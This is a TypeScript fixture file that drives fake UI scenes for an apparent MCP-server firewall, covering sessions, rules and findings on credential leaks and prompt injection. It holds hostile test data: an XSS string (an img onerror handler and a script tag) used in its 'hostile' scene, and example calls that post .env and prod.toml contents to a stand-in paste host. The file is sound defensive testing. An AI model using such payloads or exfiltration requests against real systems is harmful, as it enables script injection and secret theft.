// What the windows show in a plain browser: one scene for each view and state, named in the address (?scene=hostile).
import type { AskedView, FindingView, FoundEntryView, RowView, RuleView, SessionView, WhatView } from "../bindings";
import type { MainBackend, PromptBackend } from "./backend";
import { FakeMain, FakePrompt, appeared, changed, command, question, serverView } from "./fake";

const DAY = 86_400_000;
const now = Date.now();

const SERVERS: [string, string, string][] = [
  ["cursor", "Cursor", "filesystem"],
  ["cursor", "Cursor", "github"],
  ["cursor", "Cursor", "notion"],
  ["claude-code", "Claude Code", "filesystem"],
  ["claude-code", "Claude Code", "github"],
  ["claude-code", "Claude Code", "postgres"],
  ["claude-code", "Claude Code", "playwright"],
  ["vscode", "VS Code", "github"],
  ["vscode", "VS Code", "fetch"],
];

const entry = (client: string, server: string, over: Partial<FoundEntryView> = {}): FoundEntryView => ({
  entry: `${client}/user/${server}`,
  server,
  scope: "user",
  command: `npx -y @example/${server}-mcp`,
  state: "protected",
  reason: null,
  can_protect: false,
  can_restore: true,
  warnings: [],
  findings: [],
  secrets: server === "github" ? ["GITHUB_TOKEN"] : [],
  ...over,
});

const session = (client: string, app: string, server: string, level = "full: files, network and signals are confined"): SessionView => ({
  entry: `${client}/user/${server}`,
  app,
  server,
  client: `${client} (4711)`,
  level,
  profile: server === "github" ? "github" : "default",
  pid: 4800,
  since: now - 3_000_000,
  calls: 37,
});

const finding = (detector: string, summary: string, from: [string, string], to: [string, string] | null, severity: FindingView["severity"] = "high"): FindingView => ({
  detector,
  severity,
  confidence: "certain",
  summary,
  remedy: null,
  evidence: [
    { role: to ? "source" : "place", app: "Cursor", server: from[0], tool: from[1], pointer: "/content/0/text", excerpt: "AKIA••••", transform: null, age_s: 40 },
    ...(to ? [{ role: "sink" as const, app: "Cursor", server: to[0], tool: to[1], pointer: "/arguments/body", excerpt: "AKIA••••", transform: "base64", age_s: null }] : []),
  ],
});

let number = 0;
const row = (server: string | null, what: WhatView, over: Partial<RowView> = {}): RowView => ({
  seq: ++number,
  at: now - 7_200_000 + number * 40_000,
  app: server === null ? null : "Cursor",
  server,
  process: server === null ? null : "cursor (4711)",
  pid: server === null ? null : 4711,
  client: server === null ? null : "cursor",
  folder: null,
  what,
  ...over,
});
const call = (server: string, subject: string, verdict: "allow" | "ask" | "block" = "allow", findings: FindingView[] = [], reference: string | null = null): RowView =>
  row(server, { kind: "judged", method: "tools/call", subject, verdict, reference, rule: null, findings });

function story(): RowView[] {
  number = 0;
  const leak = finding("flow/secret", "A credential that one tool returned would leave through another.", ["filesystem", "read_file"], ["notion", "http_post"]);
  const own = finding("flow/private", "Text of a private file goes out through another tool.", ["filesystem", "read_text"], ["github", "create_pull_request"], "medium");
  return [
    row("filesystem", { kind: "started", level: "full" }),
    row("notion", { kind: "started", level: "full" }),
    call("filesystem", "read_file", "allow", [finding("result/secret", "The result holds a credential.", ["filesystem", "read_file"], null)]),
    call("github", "get_issue", "allow", [finding("result/injection", "The result gives the agent instructions.", ["github", "get_issue"], null, "medium")]),
    call("notion", "search_pages"),
    call("github", "create_pull_request", "allow", [own]),
    call("notion", "http_post", "ask", [leak], "7F3A"),
    row("notion", { kind: "unanswered", reference: "7F3A" }),
    row("files", { kind: "judged", method: "read", subject: "/home/u/notes/a.md", verdict: "block", reference: null, rule: null, findings: [finding("sandbox/file", "The sandbox closed a file to this server.", ["files", "read"], null, "low")] }, { folder: "/home/u/notes" }),
    row(null, { kind: "command", text: "mode balanced" }),
    ...["list_directory", "read_text", "search", "write_file"].map((tool) => call("filesystem", tool)),
  ].reverse();
}

const rule = (over: Partial<RuleView>): RuleView => ({
  id: 1, effect: "allow", app: "Claude Code", server: "github", client: null, tool: "create_pull_request", detector: "flow/private", exact: false, address: null,
  bound: true, origin: "answer", created: now - 9 * DAY, expires: null, hits: 37, last: now - 4_000_000, ...over,
});

function full(): FakeMain {
  const main = new FakeMain();
  const apps = [...new Map(SERVERS.map(([id, name]) => [id, name]))];
  main.servers = () =>
    Promise.resolve(
      apps.map(([id, name]) => ({
        id,
        name,
        files: [{
          path: `/home/u/.${id}/mcp.json`,
          scope: "user",
          entries: SERVERS.filter(([c]) => c === id).map(([c, , server]) =>
            server === "playwright" ? entry(c, server, { state: "unprotected", can_protect: true, can_restore: false }) : entry(c, server)),
          warnings: [],
          problem: null,
        }],
      })),
    );
  const sessions = [session("cursor", "Cursor", "github"), session("cursor", "Cursor", "filesystem"), session("claude-code", "Claude Code", "postgres", "partial: this kernel lacks a layer")];
  main.rows = story();
  main.overview = async () => ({
    engine: { state: "up", version: "0.1.0", pid: 1, own: true, mode: "balanced", paused_until: null, quieted: [], sessions, problems: [] },
    questions: [],
    withheld: [{ entry: "cursor/user/notion", app: "Cursor", server: "notion", kind: "tool", name: "search_pages" }],
    offers: [],
    tray: true,
    last_block: main.rows.find((r) => r.what.kind === "judged" && r.what.verdict === "block") ?? null,
    missing: [],
  });
  main.counted = (since, step, end) => {
    const spans = Math.floor((end - since) / step) + 1;
    return Array.from({ length: spans }, (_, n) => {
      const busy = Math.round(20 + 18 * Math.sin(n / 3) + (n % 4) * 6);
      const one = (server: string, outcome: "allowed" | "recorded" | "asked" | "blocked", calls: number) => ({ at: since + n * step, app: "Cursor", server, outcome, calls });
      return [one("filesystem", "allowed", busy), one("github", "allowed", Math.round(busy / 3)), ...(n % 5 === 2 ? [one("github", "recorded", 4)] : []), ...(n % 9 === 4 ? [one("notion", "blocked", 3), one("notion", "asked", 2)] : [])];
    }).flat();
  };
  main.ruled = {
    rules: [
      rule({}),
      rule({ id: 2, effect: "block", server: "notion", app: "Cursor", tool: "http_post", detector: null, bound: false, origin: "log", hits: 3 }),
      rule({ id: 3, server: "fetch", app: "VS Code", tool: "fetch", detector: "result/injection", origin: "log", hits: 12 }),
      rule({ id: 4, effect: "block", server: null, app: null, tool: "run_command", detector: null, bound: false, origin: "managed", hits: 0, last: null }),
      rule({ id: 5, effect: "block", server: null, app: null, client: "/usr/bin/node", tool: null, detector: "flow/", bound: false, origin: "user", hits: 8, expires: now + 20 * DAY }),
    ],
    suggestions: [{ id: "d1", rule: rule({ id: 0, origin: "suggestion", tool: "create_issue" }), questions: 5 }],
    questions: 9,
  };
  main.set = { ...main.set, managed: { file: "/etc/firedoor/policy.toml", mode: "balanced", rules: 1 } };
  return main;
}

/** A server that puts markup, hidden characters and a megabyte into everything that it can. As Rust hands it over: visible. */
const EVIL = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>⟨U+202E⟩`;
function hostile(): FakeMain {
  const main = full();
  const long = EVIL + "A".repeat(1 << 20);
  const evil = (n: number): RowView => row(EVIL, {
    kind: "judged", method: EVIL, subject: long, verdict: "block", reference: EVIL, rule: null,
    findings: [{ ...finding(EVIL, long, [EVIL, long], [long, EVIL]), evidence: finding("x", "", [EVIL, long], [long, EVIL]).evidence.map((e) => ({ ...e, excerpt: long, pointer: long, transform: long })) }],
  }, { app: EVIL, process: long, folder: long, seq: 1000 - n });
  main.rows = [0, 1, 2].map(evil);
  main.servers = () => Promise.resolve([{ id: "cursor", name: EVIL, files: [{ path: long, scope: EVIL, entries: [entry("cursor", EVIL, { entry: EVIL, command: long, warnings: [long], reason: long })], warnings: [long], problem: null }] }]);
  const start = serverView().start;
  main.view = serverView({
    start: start && { ...start, what: long, why: long, profile: EVIL, reach: { ...start.reach, write: [long], hosts: [EVIL], env: [long] } },
    grants: [{ kind: "host", text: long }],
    pins: [{ kind: "tool", name: long, first_seen: now, change: { seen: "d", back: false, fields: [{ name: EVIL, before: long, after: `${long}B` }] } }],
    observation: { at: now, running: false, read: 1, written: 1, started: 1, connected: [long], refused: [EVIL], name: EVIL, profile: long, warnings: [long] },
  });
  main.hidden = { secrets: [{ id: "e", name: long, of: EVIL, used_by: [{ server: EVIL, only_to: long }, { server: long, only_to: null }], kept: true }], problem: long };
  main.ruled = { rules: [rule({ server: EVIL, app: EVIL, tool: long, client: long, detector: EVIL })], suggestions: [], questions: 0 };
  return main;
}

function failing(): FakeMain {
  const main = full();
  const no = (): Promise<never> => Promise.reject(new Error("the connection to the engine broke: run `firedoor doctor`"));
  return Object.assign(main, { server: no, log: no, rules: no, settings: no, counts: no });
}

function empty(): FakeMain {
  const main = new FakeMain();
  main.servers = () => Promise.resolve([]);
  return main;
}

/** A desktop without a tray, a system that lacks something, and a server that wants a login. */
function bare(): FakeMain {
  const main = full();
  const before = main.overview;
  main.overview = async () => ({ ...(await before()), tray: false, missing: ["broker mode is not available on this system yet", "showing what a server uses is not available on this system yet"] });
  main.view = serverView({ start: null, grants: [], pins: [], sign_in: { wanted: now - 600_000 } });
  return main;
}

function many(): FakeMain {
  const main = full();
  const tools = ["read_file", "search", "write_file", "list_directory"];
  main.rows = Array.from({ length: 100_000 }, (_, n) => {
    const leak = n % 97 === 0 ? [finding("flow/secret", "A credential that one tool returned would leave through another.", ["filesystem", "read_file"], ["notion", "http_post"])] : [];
    return { ...call(n % 3 === 0 ? "github" : "filesystem", tools[n % 4] ?? "", leak.length > 0 ? "block" : "allow", leak), seq: 100_000 - n, at: now - n * 1000 };
  });
  return main;
}

const SCENES: Record<string, () => FakeMain> = { full, hostile, failing, empty, bare, many, "first-run": () => new FakeMain() };
const wanted = new URLSearchParams(location.search).get("scene") ?? "full";

export const mainBackend: MainBackend = (SCENES[wanted] ?? full)();
const several = ({ nonce }: { nonce: string }): AskedView =>
  question({ nonce, calls: [".env", "prod.toml", "db/seed.sql"].map((file, at) => ({ asked: now + at * 1000, brief: `{"url":"https://paste.example.net/u","body":"~/src/shop/${file} …"}`, bytes: 400 * (at + 1) })) });

/** Every field that a server, a client or a command could fill, filled with the worst. */
function hostileQuestions(): AskedView[] {
  const long = EVIL + "A".repeat(1 << 20);
  const field = { name: EVIL, before: long, after: `${long}B` };
  const found = { ...finding(EVIL, long, [EVIL, long], [long, EVIL]), evidence: finding("x", "", [EVIL, long], [long, EVIL]).evidence.map((e) => ({ ...e, excerpt: long, pointer: long, transform: long })) };
  return [
    question({ nonce: "h1", app: EVIL, server: long, tool: long, host: long, process: EVIL, findings: [found], arguments: [{ name: long, text: long }, { name: EVIL, text: EVIL }] }),
    command({ nonce: "h2", action: long, command: long, asked_by: [EVIL, long] }),
    changed({ nonce: "h3", app: EVIL, server: long, findings: [found], definitions: [{ pin: { kind: EVIL, name: long, first_seen: now, change: { seen: "d", back: false, fields: [field] } }, new: false, since: now }] }),
    appeared({ nonce: "h4", app: EVIL, path: long, servers: [{ server: long, command: long }], left: [long] }),
  ];
}

/** By name, as the address names them (?ask=changed); without a name, one after the other. */
const ASKED: Record<string, () => AskedView[]> = {
  call: () => [question()],
  several: () => [several({ nonce: "n1" })],
  host: () => [question({ tool: "telemetry.example.org:443", program: "/usr/bin/node (4801)", host: null, findings: [{ ...finding("sandbox/host", "The server wants to connect to a host that nobody granted.", ["github", ""], null, "medium"), evidence: [] }] })],
  late: () => [question({ asked: now - 60_000, held_until: now - 15_000 })],
  command: () => [command()],
  changed: () => [changed()],
  "changed-several": () => [changed({ findings: [{ ...finding("definition/changed", "The definition is not the one that was pinned when it was first seen or last accepted.", ["notion", ""], null, "medium"), evidence: [] }], definitions: serverView().pins.flatMap((pin) => pin.change === null ? [] : [0, 1].map((n) => ({ pin: { ...pin, name: `${pin.name}_${n}` }, new: false, since: now - 3_600_000 }))) })],
  server: () => [appeared()],
  servers: () => [appeared({ servers: ["linear", "sentry", "figma"].map((server) => ({ server, command: `npx -y ${server}-mcp` })), left: ["figma: its command is an array with args beside it"] })],
  dropped: () => [appeared({ news: "dropped" })],
  hostile: hostileQuestions,
};
const asked = new URLSearchParams(location.search).get("ask") ?? "";
export const promptBackend: PromptBackend = new FakePrompt(...(ASKED[asked]?.() ?? [question(), question({ nonce: "n2", host: null }), several({ nonce: "n3" })]));
